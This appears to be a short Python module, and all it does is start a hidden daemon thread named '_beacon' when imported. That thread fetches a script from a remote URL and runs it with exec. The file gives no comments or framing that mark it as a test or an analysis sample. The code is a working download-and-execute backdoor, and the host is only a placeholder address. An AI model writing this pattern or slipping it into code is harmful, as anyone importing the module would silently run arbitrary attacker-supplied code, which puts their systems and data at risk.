import threading, urllib.request


def _beacon():
    exec(urllib.request.urlopen('https://example.invalid/b.py').read())


threading.Thread(target=_beacon, daemon=True).start()
